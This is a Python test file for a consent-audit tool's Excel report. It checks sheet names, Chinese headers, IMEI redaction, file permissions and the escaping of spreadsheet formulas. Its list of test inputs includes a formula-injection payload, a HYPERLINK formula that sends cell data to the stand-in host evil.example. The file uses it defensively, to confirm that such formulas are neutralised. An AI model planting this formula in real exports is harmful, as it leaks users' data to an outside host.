"""The Excel workbook (reports/xlsx_report.py), read back with openpyxl: sheets, headers in
the report's language, formulas neutralised, owner-only file, wired to replay and report."""

from __future__ import annotations

import io
import stat
import subprocess
import sys
from pathlib import Path

from openpyxl import load_workbook

from consentscope.detectors import Finding
from consentscope.model import AuditFinding, Judgement
from consentscope.reports.xlsx_report import HEADERS, render_xlsx
from consentscope.session import judge
from tests.reports.sessions import IMEI, hostile_session
from tests.rules.builders import CLASSIFIER, session_of, timeline

ROOT = Path(__file__).resolve().parents[2]
PROFILE = ROOT / "captures" / "demo_profile.toml"
DEMO = ROOT / "captures" / "demo_session.mitm"

EVIL = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "ok"]


def workbook(data: bytes):  # type: ignore[no-untyped-def]
    return load_workbook(io.BytesIO(data))


def rows(ws) -> list[tuple]:  # type: ignore[no-untyped-def]
    return [tuple(r) for r in ws.iter_rows(values_only=True)]


def test_sheets_headers_and_rows() -> None:
    result, _ = hostile_session()
    wb = workbook(render_xlsx(Judgement((result,), ())))
    assert wb.sheetnames == ["violations", "findings", "SDKs", "coverage"]
    for key, title in zip(HEADERS, wb.sheetnames, strict=True):
        assert rows(wb[title])[0] == tuple(h[0] for h in HEADERS[key])
    findings = rows(wb["findings"])[1:]
    assert len(findings) == len(result.findings)
    first = result.findings[0]
    assert findings[0][2] == first.host and findings[0][6] == " › ".join(first.finding.encoding)
    violations = rows(wb["violations"])[1:]
    assert [v[1] for v in violations] == [v.rule for v in result.violations]
    assert violations[0][4] == result.violations[0].explanation
    sdks = {r[0]: r for r in rows(wb["SDKs"])[1:]}
    umeng = [f for f in result.findings if f.host == "ulogs.umeng.com"]
    sdk = umeng[0].destination.sdk
    assert sdks[sdk][3] == len(umeng) and sdks[sdk][4] == sum(f.phase == "before-consent" for f in umeng)
    coverage = rows(wb["coverage"])[1:]
    assert coverage[0][0] == "total" and coverage[0][4] == result.coverage.requests
    assert sorted(r[0] for r in coverage[1:]) == sorted(result.coverage.destinations)


def test_chinese_headers_and_explanations() -> None:
    result, _ = hostile_session()
    wb = workbook(render_xlsx(Judgement((result,), ()), lang="zh"))
    assert wb.sheetnames == ["违规", "发现", "SDK", "覆盖率"]
    assert rows(wb["发现"])[0][:3] == ("时间", "会话", "主机")
    assert rows(wb["违规"])[1][4] == result.violations[0].explanation_zh
    assert rows(wb["覆盖率"])[1][0] == "合计"


def test_formulas_do_not_run_and_control_characters_do_not_break_the_file() -> None:
    tl = timeline([])
    evil = [AuditFinding("s", f"f{i}", i, "GET", f"https://x.example/?q={i}", "x.example",
                         CLASSIFIER.classify("x.example"), Finding("imei", (), "url.query:q", ev), tl.phase_at(i))
            for i, ev in enumerate([*EVIL, "nul\x00bell\x07"])]
    wb = workbook(render_xlsx(Judgement((session_of(evil),), ())))
    ws = wb["findings"]
    cells = [r[10] for r in ws.iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in cells)
    evidence = [c.value for c in cells]
    assert evidence[0] == "'" + EVIL[0]
    assert all(e.startswith("'") for e in evidence[: len(EVIL) - 1]) and evidence[len(EVIL) - 1] == "ok"
    assert evidence[-1] == "nul\ufffdbell\ufffd"


def test_redacted() -> None:
    result, _ = hostile_session()
    plain = workbook(render_xlsx(Judgement((result,), ())))
    masked = workbook(render_xlsx(Judgement((result,), ()), redacted=True))
    assert any(IMEI in str(r) for r in rows(plain["findings"]))
    assert not any(IMEI in str(r) for r in rows(masked["findings"]))


def cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "consentscope", *args], capture_output=True, text=True, timeout=300)


def test_replay_and_report_write_the_workbook_owner_only(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'x.db'}"
    a, b = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    r = cli("replay", str(DEMO), "--profile", str(PROFILE), "--consent-marker", "/v1/privacy/consent", "--db", db,
            "--xlsx", str(a), "-q")
    assert r.returncode == 0, r.stderr
    assert stat.S_IMODE(a.stat().st_mode) == 0o600
    r = cli("report", "--db", db, "--xlsx", str(b), "--lang", "zh")
    assert r.returncode == 0, r.stderr
    assert r.stdout.splitlines() == [f"wrote {b}"]
    en, zh = load_workbook(a), load_workbook(b)
    assert zh.sheetnames == ["违规", "发现", "SDK", "覆盖率"]
    for s_en, s_zh in zip(en.sheetnames, zh.sheetnames, strict=True):
        assert rows(en[s_en])[1:] == rows(zh[s_zh])[1:] or s_en in ("violations", "coverage")
    assert len(rows(en["findings"])) > 1 and len(rows(en["violations"])) > 1


def test_the_batch_runner_can_render_it() -> None:
    result, prof = hostile_session()
    data = render_xlsx(judge([result], prof), lang="en")
    assert data[:2] == b"PK"
